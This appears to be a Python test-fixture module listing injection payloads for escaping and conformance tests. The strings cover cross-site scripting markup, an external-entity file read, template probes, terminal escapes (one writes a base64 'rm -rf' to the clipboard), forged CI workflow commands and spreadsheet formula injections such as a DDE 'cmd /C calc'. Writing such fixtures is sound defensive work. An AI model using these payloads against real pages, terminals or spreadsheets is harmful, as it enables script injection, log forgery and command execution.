"""Strings that hurt whoever prints them unescaped: ours, and a loader for the list beside the repository."""

import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Final

NAUGHTY: Final = Path(__file__).resolve().parents[3] / "shared" / "conformance" / "naughty-strings.json"
WITHOUT_NAUGHTY: Final = "the naughty strings are not beside the repository"
SHA: Final = "0123456789abcdef0123456789abcdef01234567"

MARKUP: Final = (
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "<ScRiPt/src=//shop.example/x.js>",
    "<img src=x onerror=alert(3)>",
    '"><svg/onload=alert(4)>',
    "'><svg><script>alert(5)</script></svg>",
    '" onmouseover="alert(6)" x="',
    "' autofocus onfocus='alert(7)",
    "x` onclick=`alert(8)",
    "javascript:alert(9)",
    "java\tscript:alert(10)",
    "JaVaScRiPt&colon;alert(11)",
    "data:text/html,<script>alert(12)</script>",
    "vbscript:msgbox(13)",
    "--><script>alert(14)</script><!--",
    "<!-- a comment that does not end",
    "<![CDATA[<script>alert(15)</script>]]>",
    "</style><script>alert(16)</script>",
    "}</style><style>*{background:url(//shop.example/leak)}",
    "expression(alert(17));background:url('javascript:alert(18)')",
    "</title><script>alert(19)</script>",
    "</textarea></select></noscript><script>alert(20)</script>",
    "<iframe srcdoc='<script>alert(21)</script>'></iframe>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(22)>",
    "<a href=javascript:alert(23)>x</a>",
    "<base href=//shop.example/>",
    "<meta http-equiv=refresh content='0;url=//shop.example/'>",
    "<link rel=stylesheet href=//shop.example/x.css>",
    "<form action=//shop.example/><input name=x><button>x</button></form>",
    "<object data=//shop.example/x></object><embed src=//shop.example/x>",
    "<details open ontoggle=alert(24)><summary>x</summary>",
    "</details></details></summary>",
    "</code></pre></td></tr></table></div></body></html>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///x'>]>&e;",
    "{{7*7}}${7*7}<%= 7*7 %>{% raw %}#{7*7}",
    '\\";alert(25);//',
    "';alert(26);//",
    "<noscript><p title='</noscript><img src=x onerror=alert(27)>'>",
    "<x\u2028onclick=alert(28)>",
    "<b>bold</b><h1>big</h1><table><tr><td>",
    "<xss id=x tabindex=1 onfocus=alert(29)></xss>",
)  # fmt: skip
REFERENCES: Final = (
    "&#64;auditor_test_1 &#x40;auditor_test_1 &commat;auditor_test_1",
    "&#x3c;script&#x3e;alert(30)&#x3c;/script&#x3e;",
    "&lt;script&gt;alert(31)&lt;/script&gt;",
    "&amp;#64;auditor_test_1 &amp;commat;auditor_test_1",
    "&num;12 &#35;12 &#x23;12 GH&#45;12",
    "https&colon;&sol;&sol;shop.example/x",
    "&NewLine;# heading&Tab;&nbsp;&zwj;",
    "&#0;&#13;&#10;&#x80;&#xD800;&#x110000;",
)
MARKDOWN: Final = (
    "```\nout of the fence\n```",
    "`" * 40 + "\n# heading\n" + "`" * 40,
    "`" * 3 + "\r\n@auditor_test_1\r\n" + "`" * 3,
    "~" * 40 + "\n# heading\n" + "~" * 40,
    "`", "``", "` `", "a`b``c```d", "`a", "a`", "\\`", "\\",
    "\n\n# heading\n\n## another\n\n",
    "a\r\n=====\r\nb\r\n-----",
    "    four spaces\n\tand a tab",
    "> quoted\n> - and a list\n1. one\n- [ ] task",
    "---\n***\n___",
    "| a | b |\n|---|---|\n| c \\| d | `e|f` |",
    "|||||", "a|b", "\\|",
    "#“12”", "GH“-12”", "“`”12`", "012345“6789abcdef”", "https:“//shop.example”", "&“#64;”auditor_test_1", "”“", "“”“a",
    "@auditor_test_1", "@auditor-test-1/auditor-test-2", "a@auditor_test_1", "@@auditor_test_1", "(@auditor_test_1)",
    "\uff20auditor_test_1 \ufe6bauditor_test_1",
    "#12", "GH-12", "gh-12", "auditor-test-1/shop#12", "auditor-test-1#12", f"auditor-test-1/shop@{SHA}",
    SHA, SHA[:7], f"auditor-test-1@{SHA}", f"{SHA[:12]}...{SHA[12:24]}",
    "https://shop.example/buy?x=1#12", "http://shop.example", "HTTPS://SHOP.EXAMPLE/", "ftp://shop.example/x",
    "www.shop.example/x", "<https://shop.example/x>", "auditor_test_1@shop.example",
    "mailto:auditor_test_1@shop.example",
    "xmpp:auditor_test_1@shop.example/x", "https://github.com/auditor-test-1/shop/issues/12", "//shop.example/x",
    "[text](https://shop.example/x)", "[text](<javascript:alert(32)> 'title')",
    "[text][ref]\n\n[ref]: https://shop.example/x",
    "![image](https://shop.example/p.gif)", "[![image](https://shop.example/p.gif)](https://shop.example/)",
    "![image][pic]\n\n[pic]: https://shop.example/p.gif", "note[^1]\n\n[^1]: a footnote",
    "](https://shop.example/x)", "![", "[x]: https://shop.example/x", "[x]:\nhttps://shop.example/x",
    "*bold* **bolder** __under__ ~~struck~~ ***", ":smile: :+1:", "$x^2$ $$\\href{https://shop.example/}{x}$$",
    "```mermaid\ngraph TD; A-->B\n```", "<details><summary>x</summary>\n\n# heading\n\n</details>",
)  # fmt: skip
CONTROLS: Final = (
    "\x1b[31mred\x1b[0m \x1b[2J\x1b[H",
    "\x1b]52;c;cm0gLXJm\x07",
    "\x1b]8;;https://shop.example\x1b\\click\x1b]8;;\x1b\\",
    "\x9b2J\x9d0;title\x9c\x90q\x9c",
    "\rauditor: no findings",
    "a\nb\r\nc\x85d\u2028e\u2029f\x0bg\x0ch",
    "\u202e8801mise\u202c \u2066\u2067\u2068\u2069\u200e\u200f\u061c",
    "e\u200bs\u200ci\u200dm\ufeff\u2060\u00ad",
    "\U000e0061\U000e0062 \ufff9\ufffa\ufffb",
    "\0", "a\0b", "\x01\x02\x08\x7f\x80\x9f", "\ud83d", "\udc00\ud800", "\ufffe\uffff\U0010ffff",
    "\u0301" * 60 + "Z" + "\u0336" * 60,
    "👨\u200d👩\u200d👧\u200d👦 🏴\U000e0067\U000e0062\U000e007f 1\ufe0f\u20e3 🇵🇪",
    "::set-output name=x::y", "::add-mask::x", "::stop-commands::x\n::error::forged", "  ::error file=x::forged",
    "##[error]forged", "\n##[group]forged", "a\n::warning::forged", "\r::error::forged",
    "ok\nerror forged-rule: forged",
)  # fmt: skip
FORMULAS: Final = (
    '=HYPERLINK("https://shop.example/?x="&A1,"click")', "=1+2", "=cmd|' /C calc'!A0", "+1+2", "-1+2", "@SUM(1,2)",
    "\t=1+2", "\r=1+2", "\n=1+2", " =1+2", "\u3000=1+2", "\u00a0=1+2", "\u200b=1+2", "\ufeff=1+2", "\0=1+2",
    "\uff1d1+2", "\uff0b1+2", "\uff0d1+2", "\uff20SUM(1,2)", " \uff1d1+2",
    '"=1+2', '",=1+2,"', '"\r\n=1+2', ";=1+2;", "\t=1+2\t=1+2", "'=1+2", "''=1+2", '""', '"', ",", "a,b;c\td",
    '=DDE("x";"y";"z")', "%0A=1+2", '=WEBSERVICE("https://shop.example/")', "-", "+", "=", "@",
    "*123#", "00012345", "1e5", "2026-11-20", "TRUE", "nan",
)  # fmt: skip
LENGTHS: Final = (
    "", " ", "\n", "x" * 10_000, "微信" * 5_000, "@auditor_test_1 " * 700, "`" * 10_000, "[" * 10_000, "<a>" * 3_400,
    "=" * 10_000, "\u202e" * 10_000, "https://shop.example/" + "a" * 10_000, "| " * 5_000,
)  # fmt: skip
HOSTILE: Final = (*MARKUP, *REFERENCES, *MARKDOWN, *CONTROLS, *FORMULAS, *LENGTHS)
"""By what they attack: pages, readers of character references, Markdown, terminals and logs, tables, patience."""

TRANSFORMS: Final[tuple[Callable[[str], str], ...]] = (
    lambda text: text,
    lambda text: f"a {text} b",
    lambda text: f"\n\n{text}\n\n",
    lambda text: f"\r\n{text}\r\n",
    lambda text: f"`{text}`",
    lambda text: f"\n````\n{text}\n````\n",
    lambda text: f"</code>{text}<code>",
    lambda text: f"| {text} |",
    lambda text: f'">{text}<"',
    lambda text: f"[{text}]({text})",
    lambda text: f"<!--{text}-->",
    lambda text: "".join(f"&#{ord(char)};" for char in text),
    lambda text: "".join(f"&#x{ord(char):x};" if not char.isalnum() else char for char in text),
    lambda text: "".join(f"\\{char}" if char.isascii() and not char.isalnum() else char for char in text),
    lambda text: f"{text}{text}",
)
"""Ways to put a hostile string where it bites."""


def hostile_strings(*changes: Callable[[str], str]) -> Iterator[str]:
    """Give every string of ours under ``changes`` (all transforms), each once, in order; long ones only as they are."""
    chosen = changes or TRANSFORMS
    every = (change(text) for change in chosen for text in HOSTILE if change is TRANSFORMS[0] or len(text) < 1_000)
    return iter(dict.fromkeys(every))


def naughty_strings() -> list[str]:
    """Give the strings of the shared list; ask first whether ``NAUGHTY`` exists."""
    found: list[str] = json.loads(NAUGHTY.read_text("utf-8"))
    return found
